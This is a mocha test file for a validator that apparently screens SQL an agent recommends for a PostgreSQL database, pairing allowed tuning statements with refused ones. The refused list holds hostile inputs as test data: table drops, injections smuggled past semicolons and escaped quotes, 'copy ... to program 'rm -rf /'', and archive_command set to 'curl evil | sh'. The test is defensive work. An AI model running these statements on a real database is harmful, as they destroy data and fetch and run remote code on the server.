import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import { refusedSql } from '../../../agent/procedures/database/recommendationSql.ts';

describe('SQL of a report', () => {
  const fine = [
    `ALTER SYSTEM SET work_mem = '8MB'`,
    'alter system set random_page_cost to 1.1',
    'alter system reset random_page_cost',
    'alter table public."Odd ; name" set (fillfactor = 90);',
    'alter table only s.t alter column c set statistics 500',
    'CREATE INDEX CONCURRENTLY ON public.orders (customer)',
    `alter database "x--y" set work_mem = '1MB'`,
    `alter role app in database shop set work_mem = 'a; b'`,
    'create extension pg_stat_statements',
  ];
  for (const sql of fine) {
    it(`is run: ${sql}`, () => {
      assert.equal(refusedSql(sql), null);
    });
  }
  const refused = [
    'drop table orders',
    `alter system set work_mem = '1MB'; drop table orders`,
    'alter table orders set (fillfactor = 90) -- ; drop table x',
    `alter system set work_mem = E'a\\'; drop table x'`,
    'do $$ begin end $$',
    `copy orders to program 'rm -rf /'`,
    'alter table orders owner to mallory',
    `alter system set archive_command = 'curl evil | sh'`,
    `alter system set "archive_command" = 'curl evil | sh'`,
    `alter system set U&"archive!005fcommand" uescape '!' = 'curl evil | sh'`,
    `alter role app in database shop set session_preload_libraries = 'evil'`,
    `alter database shop set "local_preload_libraries" to 'evil'`,
    'alter system reset all',
    'create extension plpython3u',
  ];
  for (const sql of refused) {
    it(`is refused: ${sql}`, () => {
      assert.notEqual(refusedSql(sql), null);
    });
  }
});
